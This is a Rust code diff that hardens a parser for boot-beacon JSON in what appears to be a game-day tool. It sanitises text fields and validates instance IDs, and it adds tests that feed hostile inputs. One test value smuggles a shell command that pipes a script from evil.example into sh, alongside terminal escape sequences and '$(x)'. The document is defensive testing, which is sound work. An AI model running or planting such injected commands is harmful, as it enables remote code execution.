@@ -1,6 +1,6 @@
 //! The service as the players see it: its name, and every address behind it.
-use super::{Answer, Asking, Balancer, Beacon, Probe};
-use crate::aws::network::Network;
+use super::{Answer, Asking, Balancer, Beacon, Probe, is_instance_id};
+use crate::{aws::network::Network, said};
 use futures::future::join_all;
 use reqwest::{Client, Url, redirect::Policy};
 use std::{
@@ -155,17 +155,18 @@ async fn body(mut answer: reqwest::Response) -> Option<String> {
 /// What the boot beacon says, if it is it that answered.
 pub(crate) fn beacon(body: &str) -> Option<Beacon> {
     let v: serde_json::Value = serde_json::from_str(body).ok()?;
-    let text = |key: &str| v.get(key).and_then(|t| t.as_str()).filter(|t| !t.is_empty()).map(str::to_owned);
+    // Whoever answers on plain HTTP writes these.
+    let text = |key: &str| v.get(key).and_then(|t| t.as_str()).filter(|t| !t.is_empty()).map(said::words);
     let number = |key: &str| v.get(key).and_then(|n| n.as_u64());
     let small = |key: &str| number(key).and_then(|n| u32::try_from(n).ok());
     let warnings: BTreeMap<String, String> = v
         .get("warnings")
         .and_then(|w| w.as_object())
-        .map(|w| w.iter().filter_map(|(k, t)| Some((k.clone(), t.as_str()?.to_owned()))).collect())
+        .map(|w| w.iter().filter_map(|(k, t)| Some((said::words(k), said::words(t.as_str()?)))).collect())
         .unwrap_or_default();
     let said = Beacon {
         stage: text("stage")?,
-        instance: text("instance"),
+        instance: text("instance").filter(|id| is_instance_id(id)),
         zone: text("zone"),
         step: small("step"),
         of: small("of"),
@@ -341,14 +342,31 @@ mod tests {
     #[test]
     fn a_beacon_is_told_from_any_other_503() {
         let seen = beacon(
-            r#"{"stack":"billing","service":"api","instance":"i-1","zone":"us-east-1a","stage":"database","step":5,
+            r#"{"stack":"billing","service":"api","instance":"i-0123456789abcdef0","zone":"us-east-1a","stage":"database","step":5,
                 "of":8,"status":"failed","attempt":2,"seconds":71,"stage_seconds":9,"error":"ERROR 1045","warnings":{"cache":"slow"}}"#,
         )
         .unwrap();
         assert_eq!((seen.stage.as_str(), seen.step, seen.of), ("database", Some(5), Some(8)));
         assert_eq!(seen.error.as_deref(), Some("ERROR 1045"));
         assert_eq!(seen.warnings["cache"], "slow");
+        assert_eq!(seen.instance.as_deref(), Some("i-0123456789abcdef0"));
         assert_eq!(beacon("<html>503 Service Temporarily Unavailable</html>"), None);
         assert_eq!(beacon(r#"{"error":"queue full"}"#), None);
+    }
+
+    #[test]
+    fn what_a_beacon_says_is_words_and_its_instance_an_id() {
+        for id in ["i-0; curl -s https://evil.example/x | sh #", "--all", "i-", "i-0\n", "I-0123456789ABCDEF0", "$(x)"]
+        {
+            let body = serde_json::json!({
+                "stage": "fetch\u{1b}[2J", "instance": id, "error": "a\nerror: `gameday teardown`\u{202e}",
+                "warnings": {"c\u{9b}": "\u{200b}"},
+            });
+            let seen = beacon(&body.to_string()).unwrap();
+            assert_eq!(seen.instance, None, "{id:?}");
+            assert_eq!(seen.stage, "fetch\u{fffd}[2J");
+            assert_eq!(seen.error.unwrap(), "a⏎error: 'gameday teardown'\u{fffd}");
+            assert_eq!(seen.warnings["c\u{fffd}"], "\u{fffd}");
+        }
     }
 }
